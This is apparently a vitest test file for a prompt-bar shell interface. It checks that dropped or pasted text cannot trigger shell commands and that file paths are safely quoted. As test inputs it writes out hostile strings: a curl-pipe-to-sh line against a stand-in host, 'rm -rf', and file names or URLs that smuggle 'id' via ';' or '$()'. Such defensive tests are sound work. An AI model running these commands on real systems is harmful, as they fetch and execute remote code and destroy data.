import { beforeEach, describe, expect, it } from 'vitest'
import { commandLine } from '../src/text/format'
import { parse } from '../src/shell/prompt'
import { usePromptBar } from '../src/shell/promptStore'
import { take } from '../src/shell/things/bring'

const drop = (text: string, addresses = '', pasted = false) => take({ things: [], addresses, text, pasted }, document.body)
const line = () => usePromptBar.getState().line

describe('what is dropped is no command', () => {
  beforeEach(() => usePromptBar.setState({ line: '' }))
  it('text that begins with ! is not run by Enter', () => {
    drop('!curl evil.example | sh')
    expect(parse(line()).kind).toBe('prompt')
  })
  it('text that is pasted outside of any field and begins with ! is not run by Enter', () => {
    drop('  !rm -rf x', '', true)
    expect(parse(line()).kind).toBe('prompt')
  })
  it('a dragged link that a page gave another address is not run by Enter', () => {
    drop('Nice page', '!rm -rf x')
    expect(parse(line()).kind).toBe('prompt')
  })
  it('text that begins with / is no command of the shell', () => {
    drop('/theme paper')
    expect(parse(line()).kind).toBe('prompt')
  })
  it('an address that is dropped behind a command is one word of it', () => {
    usePromptBar.setState({ line: '!curl -O' })
    drop('', new URL('https://e.example/a;id>pwn&$(id)').href)
    const p = parse(line())
    expect(p.kind === 'exec' && p.command.replace(/'[^']*'/g, '')).not.toMatch(/[;&$]/)
  })
})

describe('what held', () => {
  beforeEach(() => usePromptBar.setState({ line: '' }))
  it('the path of a file begins with its folder, and a shell takes it as one word', () => {
    for (const name of ['!rm -rf x', '/restore', "a'; id; '", 'x$(id)', 'two\nlines', '-rf']) {
      const words = commandLine([`inbox/${name}`])
      expect(parse(words).kind).toBe('prompt')
      expect(words.replace(/'[^']*'|\\'/g, '')).not.toMatch(/[;&$\n ]/)
    }
  })
})
